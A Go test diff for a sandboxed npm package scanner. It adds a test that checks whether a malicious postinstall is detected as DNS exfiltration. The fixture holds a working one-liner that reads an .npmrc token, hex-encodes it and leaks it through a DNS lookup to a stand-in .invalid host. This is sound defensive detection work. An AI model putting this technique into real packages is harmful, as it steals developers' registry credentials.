@@ -9,6 +9,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"testing"
 	"time"
 
@@ -420,4 +421,32 @@ func copyDir(src, dst string) error {
 		}
 		return os.WriteFile(target, b, 0o644)
 	})
+}
+
+// TestScanUnhookedDNSExfil: an install script whose node runs without the
+// hook (env -i) and leaks a token through a DNS name is still caught, from
+// the fake DNS server's log, as exfiltration in the install phase of the
+// function's process tree (unattributed: no record names the package).
+func TestScanUnhookedDNSExfil(t *testing.T) {
+	dir := t.TempDir()
+	// TEST FIXTURE imitating a malicious postinstall; it runs only in the
+	// sandbox and resolves only a *.invalid name.
+	script := `env -i /usr/bin/node -e "const t=require('fs').readFileSync('/home/sbx_user/.npmrc','utf8').split('=')[1].trim(); const h=Buffer.from(t).toString('hex'); require('dns').lookup(h.slice(0,40)+'.'+h.slice(40)+'.x.invalid',()=>{})"`
+	writeBundle(t, dir, map[string]string{
+		"package.json":                   `{"name":"fn","version":"1.0.0"}`,
+		"index.js":                       `exports.handler = async () => 1;`,
+		"node_modules/leak/package.json": `{"name":"leak","version":"1.0.0","scripts":{"postinstall":` + strconv.Quote(script) + `}}`,
+		"node_modules/leak/index.js":     `module.exports = 1;`,
+	})
+	p := run(t, options(t, dir))
+	if b := phaseOf(t, p, "node_modules/leak", profile.PhaseInstall); !slices.Contains(b.Capabilities, "unhooked-child") {
+		t.Errorf("leak: capabilities %v lack unhooked-child", b.Capabilities)
+	}
+	if p.App == nil {
+		t.Fatal("no behaviour of the function's process tree at all")
+	}
+	app := p.App.Phases[profile.PhaseInstall]
+	if app == nil || app.Unattributed == nil || !hasExfil(app.Unattributed, "NPM_TOKEN", "dns", "{canary:NPM_TOKEN}.x.invalid", "hex") {
+		t.Fatalf("no unattributed DNS exfiltration of NPM_TOKEN in the install phase: %+v", app.Unattributed)
+	}
 }
